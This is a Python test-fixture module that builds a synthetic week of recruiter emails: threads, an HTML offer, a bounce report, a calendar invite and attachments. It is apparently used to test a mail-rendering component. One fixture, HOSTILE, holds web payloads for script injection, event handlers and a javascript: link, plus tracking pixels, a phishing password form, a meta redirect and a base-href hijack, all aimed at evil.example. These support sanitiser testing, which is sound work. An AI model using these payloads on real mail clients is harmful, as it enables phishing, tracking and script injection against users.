"""A recruiter's mails for the tests of the pages: who is there, and what they wrote."""

import struct
import zlib
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime

ACCOUNT = "pages"
PEOPLE = {
    "u1": ("user", "Nora Keller", ["nora@agency.example"]),
    "u2": ("user", "Ben Ortiz", ["ben@agency.example"]),
    "c1": ("candidate", "Amina Diallo", ["amina.diallo@mail.example", "amina@work.example"]),
    "c2": ("candidate", "Jonas Lindqvist", ["jonas@lindqvist.example"]),
    "c3": ("candidate", "Mei Tanaka", ["mei.tanaka@mail.example"]),
    "k1": ("contact", "Priya Raman", ["priya@client.example"]),
}
NORA = "Nora Keller <nora@agency.example>"
AMINA = "Amina Diallo <amina.diallo@mail.example>"
JONAS = "Jonas Lindqvist <jonas@lindqvist.example>"
MEI = "Mei Tanaka <mei.tanaka@mail.example>"
PRIYA = "Priya Raman <priya@client.example>"


def mail(
    number: str,
    from_: str,
    to: str,
    subject: str,
    text: str,
    *,
    html: str | None = None,
    hours_ago: float = 1.0,
    answers: str | None = None,
    **headers: str,
) -> EmailMessage:
    """Return a mail; `answers` is the number of another."""
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = from_, to, subject
    message["Date"] = format_datetime(datetime.now(UTC) - timedelta(hours=hours_ago))
    message["Message-ID"] = f"<{number}@pages.example>"
    if answers:
        message["In-Reply-To"] = f"<{answers}@pages.example>"
        message["References"] = f"<{answers}@pages.example>"
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    message.set_content(text)
    if html is not None:
        message.add_alternative(html, subtype="html")
    return message


def png(red: int, green: int, blue: int, side: int = 64) -> bytes:
    """Return a picture of one colour."""
    rows = b"".join(b"\0" + bytes((red, green, blue)) * side for _ in range(side))

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


OFFER_HTML = """<html><body style="margin:0;background-color:#f2f4f7">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f2f4f7"><tr><td align="center"
 style="padding:24px"><table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff"
 style="border:1px solid #dde3ea;border-radius:8px;font-family:Helvetica,Arial,sans-serif">
<tr><td style="background-color:#0f4c5c;color:#ffffff;padding:20px 28px;font-size:20px;
 font-weight:bold;border-radius:8px 8px 0 0">Your offer from Client Ltd</td></tr>
<tr><td style="padding:24px 28px;font-size:15px;line-height:24px;color:#27323f">
<p style="margin:0 0 14px">Dear Amina,</p>
<p style="margin:0 0 14px">We are delighted to offer you the position of
<strong>Senior Data Engineer</strong>. The details:</p>
<table width="100%" cellpadding="8" style="border-collapse:collapse;font-size:14px">
<tr style="background-color:#eef5f6"><td>Start</td><td align="right">1 March</td></tr>
<tr><td>Location</td><td align="right">Hamburg, two days remote</td></tr>
<tr style="background-color:#eef5f6"><td>Answer by</td><td align="right">Friday</td></tr></table>
<p style="margin:18px 0"><a href="https://client.example/offer" style="background-color:#e36414;
color:#ffffff;padding:12px 20px;border-radius:6px;text-decoration:none">Read the contract</a></p>
<img src="https://images.client.example/banner.png" width="544" height="120" alt="Our office">
</td></tr></table></td></tr></table></body></html>"""

GMAIL_ANSWER = """<div dir="ltr"><div>Yes, <b>Friday at ten</b> works for me. My CV is attached;
the second page has the project you asked about.</div><div><br></div><div>Best,<br>Amina</div></div>
<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Nov 23, 2026 at 9:12 AM
Nora Keller &lt;<a href="mailto:nora@agency.example">nora@agency.example</a>&gt; wrote:<br></div>
<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid
rgb(204,204,204);padding-left:1ex">Hello Amina,<br><br>could you come in on Friday at ten? Please
bring your CV.<br><br>Nora</blockquote></div>"""

HOSTILE = """<style>body{display:none}</style><script>parent.document.title='owned'</script>
<img src=x onerror="parent.document.title='owned'"><svg onload="parent.document.title=1"></svg>
<div style="position:fixed;inset:0;z-index:9999;background:red;margin:-500px">overlay</div>
<div style="background:url(https://evil.example/track.png)">tracked</div>
<div style="background-image:image-set('https://evil.example/a.png' 1x)">tracked</div>
<div style="b\\61ckground:u\\72l(https://evil.example/b.png)">escaped</div>
<img src="https://evil.example/pixel.gif" width=1 height=1><a href="javascript:alert(1)">link</a>
<form action="https://evil.example/"><input name=password><button>Sign in</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<iframe src="https://evil.example/"></iframe><link rel=stylesheet href="https://evil.example/c.css">
<p>What a hostile mail says.</p>"""

_INVITATION = """BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//pages//test//EN
METHOD:REQUEST
BEGIN:VEVENT
UID:interview-1@pages.example
SUMMARY:Interview: Jonas Lindqvist
DTSTART;TZID=America/New_York:{day}T100000
DTEND;TZID=America/New_York:{day}T110000
LOCATION:Client Ltd\\, Room 4
DESCRIPTION:Please bring a laptop. https://meet.example/room-4
ORGANIZER;CN=Priya Raman:mailto:priya@client.example
ATTENDEE;CN=Jonas Lindqvist;PARTSTAT=ACCEPTED:mailto:jonas@lindqvist.example
ATTENDEE;CN=Nora Keller;PARTSTAT=NEEDS-ACTION:mailto:nora@agency.example
SEQUENCE:0
STATUS:CONFIRMED
END:VEVENT
END:VCALENDAR
"""


def _with_cv(message: EmailMessage) -> EmailMessage:
    message.add_attachment(
        b"%PDF-1.4\n" + b"0" * 84_000,
        maintype="application",
        subtype="pdf",
        filename="Amina Diallo CV.pdf",
    )
    message.add_attachment(
        png(15, 76, 92), maintype="image", subtype="png", filename="portrait.png"
    )
    return message


def _invitation() -> EmailMessage:
    day = (datetime.now(UTC) + timedelta(days=3)).strftime("%Y%m%d")
    message = mail(
        "i1",
        PRIYA,
        f"{JONAS}, {NORA}",
        "Interview: Jonas Lindqvist",
        "You are invited.",
        hours_ago=20,
    )
    message.add_alternative(
        _INVITATION.format(day=day).replace("\n", "\r\n"),
        subtype="calendar",
        params={"method": "REQUEST"},
    )
    return message


def _inline_picture() -> EmailMessage:
    html = '<p>Here is the floor plan:</p><img src="cid:plan" width="64" height="64" alt="plan">'
    message = mail(
        "p1", PRIYA, f"{NORA}, {JONAS}", "Floor plan", "Here it is.", html=html, hours_ago=75
    )
    html_part = message.get_body(("html",))
    assert isinstance(html_part, EmailMessage)
    html_part.add_related(png(227, 100, 20), "image", "png", cid="<plan>")
    return message


def bounce() -> EmailMessage:
    """Return the report that a mail did not reach its candidate."""
    report = EmailMessage()
    report["From"] = "Mail Delivery System <MAILER-DAEMON@agency.example>"
    report["To"], report["Subject"] = NORA, "Undelivered Mail Returned to Sender"
    report["Date"] = format_datetime(datetime.now(UTC) - timedelta(hours=40))
    report["Message-ID"] = "<b1@pages.example>"
    report["Auto-Submitted"] = "auto-replied"
    body = (
        "--x\r\nContent-Type: text/plain\r\n\r\nThe mail could not be delivered.\r\n"
        "--x\r\nContent-Type: message/delivery-status\r\n\r\n"
        "Reporting-MTA: dns; mx.agency.example\r\n\r\n"
        "Final-Recipient: rfc822; mei.tanaka@mail.example\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        "\r\n--x\r\nContent-Type: text/rfc822-headers\r\n\r\n"
        f"From: {NORA}\r\nTo: {MEI}\r\nSubject: A role in Berlin\r\n"
        "Message-ID: <m1@pages.example>\r\n\r\n--x--\r\n"
    )
    report["Content-Type"] = 'multipart/report; report-type=delivery-status; boundary="x"'
    report.set_payload(body)
    return report


def week() -> list[EmailMessage]:
    """Return a believable week, oldest first."""
    long_thread = [
        mail(
            f"t{turn}",
            PRIYA if turn % 2 else NORA,
            f"{NORA}, {JONAS}" if turn % 2 else f"{PRIYA}, {JONAS}",
            "Shortlist for Berlin" if turn == 1 else "Re: Shortlist for Berlin",
            f"Note {turn}: the list is getting shorter.\n\nPriya"
            if turn % 2
            else f"Answer {turn}: agreed.\n\n> Note {turn - 1}: the list is getting shorter.",
            hours_ago=140 - turn * 4,
            **({"answers": f"t{turn - 1}"} if turn > 1 else {}),
        )
        for turn in range(1, 13)
    ]
    return [
        *long_thread,
        mail("m1", NORA, MEI, "A role in Berlin", "Hello Mei,\n\nI have a role you may like. "
             "More at https://agency.example/roles/berlin?id=7.\n\nBest wishes,\nNora\n\n-- \n"
             "Nora Keller\nAgency, Hamburg", hours_ago=42),
        bounce(),
        _inline_picture(),
        mail("a1", NORA, AMINA, "Your interview on Friday", "Hello Amina,\n\ncould you come in on "
             "Friday at ten? Please bring your CV.\n\nNora", hours_ago=50),
        _with_cv(mail("a2", AMINA, NORA, "Re: Your interview on Friday",
             "Yes, Friday at ten works for me.\n\nOn Mon, Nov 23, 2026 at 9:12 AM Nora Keller "
             "<nora@agency.example> wrote:\n> Hello Amina,", html=GMAIL_ANSWER, hours_ago=22,
             answers="a1")),
        _invitation(),
        mail("o1", PRIYA, f"{AMINA}, {NORA}", "Your offer from Client Ltd",
             "We are delighted to offer you the position.", html=OFFER_HTML, hours_ago=5),
        mail("v1", JONAS, NORA, "Automatic reply: Shortlist", "I am on holiday until Monday.",
             hours_ago=4, Auto_Submitted="auto-replied"),
        mail("h1", MEI, NORA, "Please look at this", "What a hostile mail says.", html=HOSTILE,
             hours_ago=3),
        mail("j1", JONAS, NORA, "Salary expectations", "Hi Nora,\n\nI am looking for 82,000 to "
             "88,000 euros, depending on the bonus.\n\nThanks\nJonas\n\n-- \nJonas Lindqvist\n"
             "+46 70 123 45 67", hours_ago=0.3),
    ]  # fmt: skip
